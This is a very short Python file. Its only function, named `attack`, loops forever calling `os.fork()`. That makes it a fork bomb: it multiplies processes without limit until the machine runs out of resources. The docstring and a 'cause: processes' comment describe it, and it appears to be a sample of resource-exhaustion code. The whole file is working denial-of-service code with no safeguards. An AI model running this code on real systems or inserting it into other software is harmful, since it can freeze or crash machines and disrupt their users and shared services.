"""Doubles itself without end."""
# cause: processes

import os


def attack():
    while True:
        os.fork()
